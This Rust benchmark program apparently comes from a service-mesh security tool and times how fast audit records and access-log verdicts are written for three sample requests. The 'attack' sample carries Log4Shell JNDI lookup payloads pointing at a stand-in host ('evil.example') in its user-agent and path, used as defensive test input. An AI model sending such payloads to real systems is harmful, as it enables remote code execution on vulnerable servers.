//! Native cost of writing the audit text alone, per request: an OCSF and an ECS line from a
//! record already built, and the access-log verdict fragment from a head already read, each
//! into a buffer kept across requests (as the filter does). Three requests: the plain allowed
//! GET of `audit_cost`, a signature hit with a response finding (every optional part set), and
//! one whose client strings all need escaping. Run it in release:
//!
//! ```text
//! cargo run --release -p meshsight-policy --example record_write_cost [-- ITERATIONS]
//! ```
//!
//! The machine may be shared: each figure is the median of short timed batches, with the
//! fastest batch beside it.

use std::hint::black_box;
use std::time::Instant;

use meshsight_policy::audit::verdict;
use meshsight_policy::audit::{AuditFormat, AuditPolicy, AuditRecord, HttpExchange, PeerWorkload};
use meshsight_policy::decision::{
    AllowlistDecision, AllowlistOutcome, MirrorDecision, MirrorReason,
};
use meshsight_policy::head::RequestHead;
use meshsight_policy::mirror::signatures::Severity;
use meshsight_policy::response::{ResponseCopy, ResponseFinding, ResponseVerdict, SecretRef};

/// The audit policy of `audit_cost` (the Istio manifest's, log sink).
const POLICY: &str = r#"{"format":"ocsf",
  "record_headers":["user-agent","content-type","x-request-id","x-forwarded-for"],
  "redact_query_params":["token","password","secret","api_key","access_token"],
  "sample_allowed":1.0}"#;

fn pairs(list: &[(&str, &str)]) -> Vec<(String, String)> {
    list.iter()
        .map(|(n, v)| (n.to_string(), v.to_string()))
        .collect()
}

fn plain_head() -> Vec<(String, String)> {
    pairs(&[
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", "shop.example.com"),
        (":path", "/api/v1/cart/items?page=2&sort=price"),
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        ("accept", "application/json, text/plain, */*"),
        ("cookie", "session=3f2a9c1b7e; theme=dark"),
        ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig"),
        (
            "traceparent",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        ),
        ("x-request-id", "5b6f1c2e-0000-4000-8000-000000000001"),
        ("x-forwarded-for", "203.0.113.7, 10.0.0.1"),
        ("content-type", "application/json"),
    ])
}

fn attack_head() -> Vec<(String, String)> {
    pairs(&[
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "shop.example.com:8080"),
        (":path", "/api/login?user=${jndi:ldap://x/a}&token=s3cr3t"),
        ("user-agent", "${jndi:ldap://evil.example/a}"),
        ("x-request-id", "5b6f1c2e-0000-4000-8000-000000000002"),
        ("x-forwarded-for", "203.0.113.7, not-an-ip"),
        ("content-type", "application/x-www-form-urlencoded"),
    ])
}

fn hostile_head() -> Vec<(String, String)> {
    pairs(&[
        (":method", "PROP\"FIND"),
        (":scheme", "http"),
        (":authority", "h\"o\\st.example:81"),
        (":path", "/\"quoted\"/\u{1}\t\n/é漢😀?q=\"x\"\\"),
        (
            "user-agent",
            "agent \"with\" \\ quotes\r\n and\u{0} controls",
        ),
        ("x-request-id", "id\"1"),
        ("content-type", "text/\"odd\""),
    ])
}

fn exchange(head: Vec<(String, String)>, hit: bool) -> HttpExchange {
    let mut ex = HttpExchange::from_request_headers(head);
    ex.response_headers = pairs(&[(":status", "200"), ("content-type", "application/json")]);
    ex.protocol = Some("HTTP/1.1".into());
    ex.status = Some(200);
    ex.request_bytes = Some(412);
    ex.response_bytes = Some(1830);
    ex.start_ns = 1_700_000_000_000_000_000;
    ex.end_ns = 1_700_000_000_004_200_000;
    ex.source_address = Some("10.1.2.3:51234".into());
    ex.destination_address = Some("10.1.9.9:8080".into());
    ex.source_peer = PeerWorkload {
        namespace: Some("shop".into()),
        workload: Some("web-v1".into()),
        service: Some("web".into()),
    };
    ex.destination_peer = PeerWorkload {
        namespace: Some("shop".into()),
        workload: Some("cart-v2".into()),
        service: Some("cart".into()),
    };
    ex.peer_identity = Some("spiffe://cluster.local/ns/shop/sa/web".into());
    ex.allowlist = Some(AllowlistDecision {
        outcome: AllowlistOutcome::Allowed,
        rule: Some("cart-read".into()),
        reason: None,
    });
    ex.mirror = Some(MirrorDecision {
        mirrored: hit,
        target: hit.then(|| "ids".into()),
        reason: if hit {
            MirrorReason::Signature
        } else {
            MirrorReason::NotSelected
        },
        rule: None,
        signatures: if hit {
            vec!["log4shell".into()]
        } else {
            vec![]
        },
        signature_rules: if hit {
            vec!["ms-log4shell-jndi".into()]
        } else {
            vec![]
        },
        findings: Vec::new(),
    });
    if hit {
        ex.response = Some(ResponseVerdict {
            status: 200,
            signature_hit: true,
            findings: vec![ResponseFinding {
                rule: "ms-resp-aws-keys".into(),
                category: "aws_credentials".into(),
                name: "AWS access key in a response".into(),
                severity: Severity::High,
                technique: Some("T1552.005".into()),
                location: "response_body",
                secret: Some(SecretRef {
                    kind: "aws_access_key_id",
                    location: "response_body".into(),
                    sha256: "0123456789ab".into(),
                }),
            }],
            headers: Vec::new(),
            excerpt: Vec::new(),
            decoding: None,
            copy: ResponseCopy::Mirrored,
        });
        ex.response_flags = 1 << 5;
    }
    ex.response_code_details = Some("via_upstream".into());
    ex
}

/// Median and fastest batch, in ns per call, of `write` run `iterations` times.
fn time(iterations: usize, mut write: impl FnMut() -> usize) -> (f64, f64) {
    const BATCH: usize = 200;
    let mut per_batch = Vec::with_capacity(iterations / BATCH + 1);
    let mut done = 0;
    let mut bytes = 0;
    while done < iterations {
        let start = Instant::now();
        for _ in 0..BATCH {
            bytes += write();
        }
        per_batch.push(start.elapsed().as_nanos() as f64 / BATCH as f64);
        done += BATCH;
    }
    black_box(bytes);
    per_batch.sort_by(f64::total_cmp);
    (per_batch[per_batch.len() / 2], per_batch[0])
}

fn main() {
    let iterations: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(200_000);
    let policy = match AuditPolicy::from_json(POLICY.as_bytes()) {
        Ok(p) => p,
        Err(e) => {
            eprintln!("bad policy: {e}");
            std::process::exit(1);
        }
    };
    let cases = [
        ("plain", plain_head(), false),
        ("attack", attack_head(), true),
        ("hostile", hostile_head(), false),
    ];
    let mut line = String::with_capacity(8192);
    for (name, head, hit) in cases {
        let ex = exchange(head.clone(), hit);
        let (allow, mirror, response) =
            (ex.allowlist.clone(), ex.mirror.clone(), ex.response.clone());
        let record = AuditRecord::build(ex, &policy);
        let head = RequestHead::from_pairs(head);
        for (format, label) in [(AuditFormat::Ocsf, "ocsf"), (AuditFormat::Ecs, "ecs")] {
            let (median, fastest) = time(iterations, || {
                line.clear();
                black_box(&record).write_json_line(format, &mut line);
                line.len()
            });
            println!(
                "{name:8} {label:8} {:5} bytes  median {median:7.1} ns  fastest {fastest:7.1} ns",
                line.len()
            );
        }
        let (median, fastest) = time(iterations, || {
            let [entry] = verdict::entries_with_response(
                black_box(&head),
                allow.as_ref(),
                mirror.as_ref(),
                response.as_ref(),
            );
            entry.bytes.len()
        });
        let size = verdict::entries_with_response(
            &head,
            allow.as_ref(),
            mirror.as_ref(),
            response.as_ref(),
        )[0]
        .bytes
        .len();
        println!(
            "{name:8} verdict  {size:5} bytes  median {median:7.1} ns  fastest {fastest:7.1} ns"
        );
    }
}
